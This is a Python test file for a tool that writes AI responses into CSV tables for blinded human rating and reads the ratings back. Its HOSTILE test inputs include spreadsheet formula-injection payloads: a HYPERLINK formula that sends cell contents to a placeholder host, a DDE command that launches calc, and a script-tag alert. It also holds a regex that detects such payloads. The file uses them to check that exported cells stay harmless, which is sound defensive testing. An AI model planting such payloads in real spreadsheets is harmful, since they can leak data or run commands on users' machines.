"""Tables for people: what they show and hide, that they are harmless, and that they come back from any spreadsheet."""

from __future__ import annotations

import csv
import io
import re
from collections import Counter
from collections.abc import Sequence
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from persona_lens.judging.agreement import AgreementError, Scored, read_scored, response_id, write_blinded
from persona_lens.judging.blind import MAX_CELL, from_cell, to_cell
from persona_lens.traits import load_trait

FORMULAS = ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "  =1", "＝1", "'=1", "''=1", "x;=1", "x\n=1", "x\n-1")
HOSTILE = (
    *FORMULAS,
    '=HYPERLINK("http://x.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "'quoted'",
    "a;b,c\td|e",
    'say "hi"\r\nand\rgo\n\n',
    "nul \x00 bell \x07 escape \x1b",
    "\\u0000 \\\\u0041 \\x \\",
    "half \ud800 and \udfff",
    "\ufeffmark \u202eright to left\u202c \u200bhidden",
    "<script>alert(1)</script>",
    "id;question;response;rating",
    "sep=;",
    "🙂 ﷽ e\u0301",
    " ",
)
FIRST_OF_FORMULA = re.compile(r"(^|[;\n\t]) *([=@＝＠]|[+\-＋－](?! ))|^ *[+\-\t]")


def response(text: str, score: float | None = 50.0, question: str = "What now?", **labels: object) -> Scored:
    return Scored(response_id(question, text), question, text, score, None if score is not None else "none", labels)


def read_cells(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as stream:
        return list(csv.DictReader(stream))


def same_lines(text: str) -> str:
    return text.replace("\r\n", "\n").replace("\r", "\n")


# Cells


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_cells_are_harmless_and_come_back(text: str) -> None:
    cell = to_cell(text)
    assert not FIRST_OF_FORMULA.search(cell)
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e\ufeff\ud800-\udfff]", cell)
    cell.encode()
    assert from_cell(cell) == same_lines(text)


texts = st.one_of(
    st.text(st.characters(), max_size=40),
    st.text("=+-@'\\u0d8 \t\n\r;\x00\ud800＝", max_size=25),
    st.lists(st.sampled_from(HOSTILE), max_size=4).map("".join),
)


@settings(max_examples=400)
@given(texts)
def test_every_text_comes_back_from_its_cell(text: str) -> None:
    cell = to_cell(text)
    cell.encode()
    assert not FIRST_OF_FORMULA.search(cell)
    assert from_cell(cell) == same_lines(text)


def test_long_runs_of_one_character_take_no_time() -> None:
    """Each of them would take minutes if the time grew with the square of the length."""
    for character in "\\'=; \n\t-":
        text = character * 200_000 + "x"
        assert from_cell(to_cell(text)[:MAX_CELL])[:1000] == text[:1000]


def test_ordinary_text_is_left_as_it_is() -> None:
    text = "It's fine: 2 - 1 = 1.\n\n- one\n- two\n\tcode(x) + 1; done\n\\frac{1}{2}"
    assert to_cell(text) == text


def test_what_is_too_long_for_a_cell_is_cut_with_a_note() -> None:
    assert to_cell("x" * (MAX_CELL + 7)).endswith("x […7 more characters]")


# Drawing


def test_low_and_high_scores_are_both_drawn(tmp_path: Path) -> None:
    crowd = [response(f"middling {i}", 50 + i / 100) for i in range(500)]
    rare = [response("the lowest", 1.0), response("the highest", 99.0), response("refused", None)]
    assert write_blinded([*crowd, *rare], tmp_path / "two.csv", 2) == 2
    assert {row["response"] for row in read_cells(tmp_path / "two.csv")} == {"the lowest", "the highest"}
    assert write_blinded([*crowd, *rare], tmp_path / "ten.csv", 10) == 10
    assert {row["response"] for row in read_cells(tmp_path / "ten.csv")} >= {"the lowest", "the highest", "refused"}


def test_strata_are_drawn_from_alike(tmp_path: Path) -> None:
    responses = [response(f"response {i}", float(i % 101)) for i in range(505)]
    write_blinded(responses, tmp_path / "r.csv", 50)
    scores = {each.id: each.score for each in responses}
    drawn = [scores[row["id"]] or 0.0 for row in read_cells(tmp_path / "r.csv")]
    assert Counter(min(int(score // 20), 4) for score in drawn) == dict.fromkeys(range(5), 10)
    assert drawn != sorted(drawn)
    assert drawn != sorted(drawn, reverse=True)


def test_the_seed_decides_and_the_order_of_the_source_does_not(tmp_path: Path) -> None:
    responses = [response(f"response {i}", float(i)) for i in range(50)]
    for name, source, seed in (("a", responses, 1), ("b", responses[::-1], 1), ("c", responses, 2)):
        write_blinded(source, tmp_path / f"{name}.csv", 20, seed)
    a, b, c = ((tmp_path / f"{name}.csv").read_bytes() for name in "abc")
    assert a == b
    assert a != c


def test_empty_and_equal_responses_are_not_rated_in_vain(tmp_path: Path) -> None:
    responses = [response("same", 10.0), response("same", 20.0), response("", None), response(" \n", 5.0)]
    assert write_blinded(responses, tmp_path / "r.csv", 60) == 1
    with pytest.raises(AgreementError, match="every response is empty"):
        write_blinded(responses[2:], tmp_path / "none.csv", 5)


def test_unscored_responses_can_be_drawn_too(tmp_path: Path) -> None:
    assert write_blinded([response(f"response {i}", None) for i in range(9)], tmp_path / "r.csv", 5) == 5


# Files


def test_nothing_tells_what_a_judge_said(tmp_path: Path) -> None:
    secret = response("the answer", 87.65, arm="positive", system="You are an optimistic assistant.")
    write_blinded([secret, response("another", 3.21, arm="negative")], tmp_path / "r.csv", 5)
    written = (tmp_path / "r.csv").read_text(encoding="utf-8-sig")
    assert written.splitlines()[0] == '"id","question","response","rating"'
    everything = written + (tmp_path / "r.csv.instructions.txt").read_text()
    assert not re.search(r"87|3\.21|arm|positive|negative|optimistic|score", everything)
    assert [row["rating"] for row in read_cells(tmp_path / "r.csv")] == ["", ""]


def test_the_instructions_carry_the_rubric(tmp_path: Path) -> None:
    trait = load_trait("optimistic")
    write_blinded([response("x")], tmp_path / "r.csv", 5, trait=trait)
    said = (tmp_path / "r.csv.instructions.txt").read_text(encoding="utf-8")
    assert "How to rate the 1 responses in r.csv" in said
    assert trait.judge_rubric.partition("\n")[0] in said
    assert "(the column `response`)" in said
    assert "{answer}" not in said
    assert "{question}" not in said


@pytest.mark.parametrize("existing", ["r.csv", "r.csv.instructions.txt"])
def test_nothing_is_overwritten(tmp_path: Path, existing: str) -> None:
    (tmp_path / existing).write_text("the work of a week")
    with pytest.raises(AgreementError, match=f"{existing} exists already"):
        write_blinded([response("x")], tmp_path / "r.csv", 5)
    assert [(file.name, file.read_text()) for file in tmp_path.iterdir()] == [(existing, "the work of a week")]


def test_what_cannot_be_written_is_refused(tmp_path: Path) -> None:
    with pytest.raises(AgreementError, match="at least 1 response"):
        write_blinded([response("x")], tmp_path / "r.csv", 0)
    with pytest.raises(AgreementError, match=r"does not end in \.csv"):
        write_blinded([response("x")], tmp_path / "r.xlsx", 5)
    (tmp_path / "file").write_text("")
    with pytest.raises(AgreementError, match=r"the folder .* cannot be made"):
        write_blinded([response("x")], tmp_path / "file" / "r.csv", 5)


# The way back


def rate(path: Path, ratings: Sequence[str], *, delimiter: str = ",", quoting: int = csv.QUOTE_MINIMAL) -> str:
    """The table as a spreadsheet saves it, with ratings filled in from the top."""
    rows = read_cells(path)
    for row, rating in zip(rows, ratings, strict=True):
        row["rating"] = rating
    written = io.StringIO()
    writer = csv.DictWriter(
        written, rows[0], delimiter=delimiter, quoting=quoting, lineterminator="\r\n"  # type: ignore[arg-type]
    )  # fmt: skip
    writer.writeheader()
    writer.writerows(rows)
    return written.getvalue()


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "cp1252"])
@pytest.mark.parametrize("quoting", [csv.QUOTE_MINIMAL, csv.QUOTE_ALL])
def test_ratings_come_back_however_they_were_saved(tmp_path: Path, delimiter: str, encoding: str, quoting: int) -> None:
    responses = [response(text, float(i), f"question {i}") for i, text in enumerate(HOSTILE) if text.strip()]
    write_blinded(responses, tmp_path / "r.csv", 60)
    ids = [row["id"] for row in read_cells(tmp_path / "r.csv")]
    ratings = ["72,5", "100", "", " 0 ", "refusal", *["33.25"] * (len(ids) - 5)]
    saved = rate(tmp_path / "r.csv", ratings, delimiter=delimiter, quoting=quoting)
    (tmp_path / "back.csv").write_bytes(saved.encode(encoding, errors="replace"))
    back = read_scored(tmp_path / "back.csv")
    assert [each.id for each in back] == ids
    assert [each.score for each in back[:6]] == [72.5, 100.0, None, 0.0, None, 33.25]
    assert [each.reason for each in back[2:5]] == ["not rated", None, "refusal"]
    assert [each.refused for each in back[2:5]] == [False, False, True]
    if encoding != "cp1252":
        assert {each.response for each in back} == {same_lines(each.response) for each in responses}


@settings(max_examples=60, deadline=None)
@given(st.lists(st.tuples(texts, texts), min_size=1, max_size=8), st.sampled_from(",;\t"), st.data())
def test_blinded_tables_come_back_whole(
    tmp_path_factory: pytest.TempPathFactory, pairs: list[tuple[str, str]], delimiter: str, data: st.DataObject
) -> None:
    folder = tmp_path_factory.mktemp("blind")
    found = [response(text, 1.0, question) for question, text in pairs if text.strip()]
    responses = {each.id: each for each in found}
    if not responses:
        return
    written = write_blinded(list(responses.values()), folder / "r.csv", 100)
    assert written == len(responses)
    ratings = data.draw(st.lists(st.integers(0, 100).map(str), min_size=written, max_size=written))
    (folder / "back.csv").write_text(rate(folder / "r.csv", ratings, delimiter=delimiter), encoding="utf-8", newline="")
    back = read_scored(folder / "back.csv")
    assert {each.id for each in back} == set(responses)
    for each, rating in zip(back, ratings, strict=True):
        original = responses[each.id]
        assert each.score == float(rating)
        assert (each.question, each.response) == (same_lines(original.question), same_lines(original.response))
        assert response_id(each.question, each.response) == each.id


def test_mangled_text_still_matches_by_id(tmp_path: Path) -> None:
    write_blinded([response(f"response {i}", float(i)) for i in range(3)], tmp_path / "r.csv", 3)
    ids = [row["id"] for row in read_cells(tmp_path / "r.csv")]
    lines = [
        "sep=;",
        ";Rating;ID;Response",
        f"x;10;{ids[2].upper()};#NAME?",
        ";;;",
        f"; 20 ;{ids[0]};resp??se 0;;",
        "",
        f";30;{ids[1]}",
    ]
    (tmp_path / "back.csv").write_text("\n".join(lines))
    assert {each.id: each.score for each in read_scored(tmp_path / "back.csv")} == dict(
        zip(ids, (20.0, 30.0, 10.0), strict=True)
    )


@pytest.mark.parametrize(
    ("row", "said"),
    [
        ("{id},q,a,101", r"back\.csv:3, rating: '101' is no score; write a number from 0 to 100, REFUSAL"),
        ("{id},q,a,-1", r":3, rating: '-1' is no score"),
        ("{id},q,a,high", r":3, rating: 'high' is no score"),
        ("{id},q,a,nan", r":3, rating: 'nan' is no score"),
        ("{id},q,a,1e999", r":3, rating: '1e999' is no score"),
        ("{id},q,a,1_0", r":3, rating: '1_0' is no score"),
        ("1.23E+15,q,a,5", r":3: '1\.23E\+15' is not an id"),
        (",q,a,5", ":3: '' is not an id"),
        ("{id},q,a,b,c,5", ":3: 6 cells for 4 columns"),
        ('{id},q,"a\n\nb",5\n{id},q,a,200', ":6, rating: '200'"),
    ],
)
def test_faults_are_named_with_file_and_line(tmp_path: Path, row: str, said: str) -> None:
    name = response_id("q", "a")
    (tmp_path / "back.csv").write_text(f"id,question,response,rating\n{name},q,a,50\n{row.format(id=name)}\n")
    with pytest.raises(AgreementError, match=said):
        read_scored(tmp_path / "back.csv")


def test_a_second_rater_in_another_column(tmp_path: Path) -> None:
    name = response_id("q", "a")
    (tmp_path / "r.csv").write_text(f"id,response,rating,Anna\n{name},a,10,20\n")
    assert read_scored(tmp_path / "r.csv")[0].score == 10
    assert read_scored(tmp_path / "r.csv", column="Anna")[0].score == 20
    with pytest.raises(AgreementError, match="no column 'ben'; there are id, response, rating, anna"):
        read_scored(tmp_path / "r.csv", column="Ben")


def test_a_very_long_cell_is_read(tmp_path: Path) -> None:
    name = response_id("q", "a")
    (tmp_path / "r.csv").write_text(f"id,response,rating\n{name},{'x' * 200_000},10\n")
    assert read_scored(tmp_path / "r.csv")[0].score == 10
